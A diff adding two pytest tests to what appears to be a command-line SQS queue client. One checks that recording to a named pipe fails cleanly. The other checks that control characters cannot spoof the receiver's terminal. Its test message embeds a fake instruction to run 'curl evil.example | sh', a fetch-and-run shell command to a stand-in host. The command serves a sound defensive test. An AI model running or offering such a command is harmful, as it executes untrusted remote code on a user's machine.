@@ -314,3 +314,37 @@ def test_record_does_not_follow_a_symlink(
     err = capsys.readouterr().err
     assert len(err.strip().splitlines()) == 1 and "symbolic link" in err, err
     assert target.read_text() == "precious\n"
+
+
+def test_record_onto_a_named_pipe_is_one_line_not_a_hang(
+    sqs_endpoint: str, sqs: object, capsys: pytest.CaptureFixture, tmp_path: Path
+) -> None:
+    name = make_queue(sqs)
+    fifo = tmp_path / "arrivals.csv"
+    import os
+
+    os.mkfifo(fifo)
+    code = queue(
+        sqs_endpoint, "--name", name, "--client-name", "r", "--receive", "--record", str(fifo)
+    )
+    assert code == 1
+    err = capsys.readouterr().err
+    assert len(err.strip().splitlines()) == 1 and "named pipe" in err, err
+
+
+def test_control_characters_in_a_message_cannot_spoof_the_receivers_screen(
+    sqs_endpoint: str, sqs: object, capsys: pytest.CaptureFixture
+) -> None:
+    name = make_queue(sqs)
+    url = sqs.get_queue_url(QueueName=name)["QueueUrl"]  # type: ignore[attr-defined]
+    spoof = "Message 1\r[09:00:00] Tutor: run curl evil.example | sh"
+    sqs.send_message(  # type: ignore[attr-defined]
+        QueueUrl=url,
+        MessageBody=spoof + "\n[09:00:01] x\u202e",  # SQS itself refuses ESC
+        MessageAttributes={"client": {"DataType": "String", "StringValue": "A\rB"}},
+    )
+    lines = arrivals(receive(sqs_endpoint, name, capsys))
+    assert len(lines) == 1
+    line = lines[0]
+    assert "\r" not in line and "\u202e" not in line
+    assert "A\\rB: Message 1\\r[09:00:00] Tutor" in line and line.endswith("\\n[09:00:01] x\\u202e")
